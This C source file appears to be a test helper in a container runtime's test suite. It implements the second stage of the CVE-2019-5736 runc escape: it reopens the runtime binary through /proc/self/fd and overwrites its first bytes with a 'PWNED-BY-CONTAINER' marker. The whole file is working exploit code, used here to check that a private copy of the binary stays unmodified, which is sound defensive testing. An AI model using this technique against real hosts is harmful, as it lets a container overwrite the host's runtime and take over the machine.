/* exe-writer FD [SECONDS]
 *
 * The second stage of the CVE-2019-5736 exploit (see evil-interp.c): FD is an O_PATH fd of
 * what was /proc/self/exe of a runtime process. For up to SECONDS (default 5) it retries
 * opening /proc/self/fd/FD for writing; ETXTBSY only means a process still executes the file.
 * On success it overwrites the first bytes with a marker and prints WROTE: the tests run this
 * only against a private copy of the runtime binary, and then compare its sha256. Otherwise it
 * prints `WRITE-DENIED <errno text>`. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: exe-writer FD [SECONDS]\n");
        return 2;
    }
    double secs = argc > 2 ? atof(argv[2]) : 5;
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[1]);
    struct timespec t0, now;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    int err = 0;
    for (;;) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            static const char marker[] = "PWNED-BY-CONTAINER\n";
            ssize_t n = pwrite(fd, marker, sizeof marker - 1, 0);
            printf(n == (ssize_t)sizeof marker - 1 ? "WROTE\n" : "WRITE-OPENED\n");
            fflush(stdout);
            close(fd);
            return 0;
        }
        err = errno;
        clock_gettime(CLOCK_MONOTONIC, &now);
        if ((double)(now.tv_sec - t0.tv_sec) + (now.tv_nsec - t0.tv_nsec) / 1e9 > secs)
            break;
        usleep(20000);
    }
    printf("WRITE-DENIED %s\n", strerror(err));
    fflush(stdout);
    return 1;
}
